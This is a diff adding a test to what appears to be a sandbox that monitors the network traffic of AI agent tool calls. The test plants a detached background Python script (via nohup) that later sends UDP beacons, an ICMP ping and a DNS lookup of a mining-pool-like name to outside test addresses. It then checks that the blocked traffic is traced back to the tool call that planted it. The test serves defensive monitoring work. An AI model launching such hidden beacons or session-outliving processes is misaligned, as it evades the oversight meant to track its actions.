@@ -127,6 +127,43 @@ time.sleep(0.3)`, { tool: 'python' });
   assert.ok(alerts.every((a) => a.tool_call === 'call-1'));
 });
 
+test('datagrams sent later by a background process (UDP, ICMP ping, DNS to an outside resolver) are attributed to the call that started it, with its pid', async () => {
+  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'udp-bg' });
+  try {
+    const bg = `import socket, time
+time.sleep(1.5)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(b"beacon", ("203.0.113.10", 9999))
+u.sendmsg([b"beacon2"], [], 0, ("203.0.113.10", 9998))
+icmp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+icmp.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("203.0.113.10", 0))
+q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(p)]) + p.encode() for p in "xmr.pool.test".split(".")) + b"\\x00\\x00\\x01\\x00\\x01"
+d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+d.settimeout(2)
+d.sendto(q, ("203.0.113.53", 53))
+try:
+    d.recv(512)
+except OSError:
+    pass
+time.sleep(0.5)`;
+    const r1 = await s.exec({ command: `cat > bg.py <<'EOF'\n${bg}\nEOF\n(nohup python3 bg.py >/dev/null 2>&1 &); echo planted`, step: 1, toolCallId: 'plant' });
+    assert.equal(r1.stdout.trim(), 'planted');
+    const r2 = await s.exec({ command: 'sleep 3; echo done', step: 2, toolCallId: 'later' });
+    assert.equal(r2.stdout.trim(), 'done');
+    await s.close();
+    const drops = s.events.filter((e) => e.kind === 'drop' && e.payload['network.peer.address'] === '203.0.113.10');
+    assert.ok(drops.length >= 3, `drops: ${JSON.stringify(drops.map((d) => [d.payload.proto, d.payload['network.peer.port']]))}`);
+    for (const d of drops) {
+      assert.equal(d.tool_call, 'plant', `${d.payload.proto} drop attributed to ${d.tool_call} (${d.payload.attribution})`);
+      assert.equal(d.payload.attribution, 'syscall');
+      assert.ok(d.pid! > 0);
+    }
+    const sends = s.events.filter((e) => e.kind === 'connect' && e.payload.via === 'sendto');
+    assert.ok(sends.some((e) => e.payload['network.peer.port'] === 9999) && sends.some((e) => e.payload['network.peer.port'] === 9998), 'sendto and sendmsg recorded');
+    assert.ok(s.alertEvents.filter((a) => a.payload.category !== undefined && /203\.0\.113\.10/.test(String(a.payload.message))).every((a) => a.tool_call === 'plant'));
+  } finally { await s.close(); }
+});
+
 test('observe mode records "would block" and lets traffic through (lab only)', async () => {
   const before = await fx.far.accepted('10.0.0.5', 80);
   const { alerts } = await oneCall('curl -sS -m 3 -o /dev/null http://10.0.0.5/ && echo reached', { policy: 'mode: observe\n' });
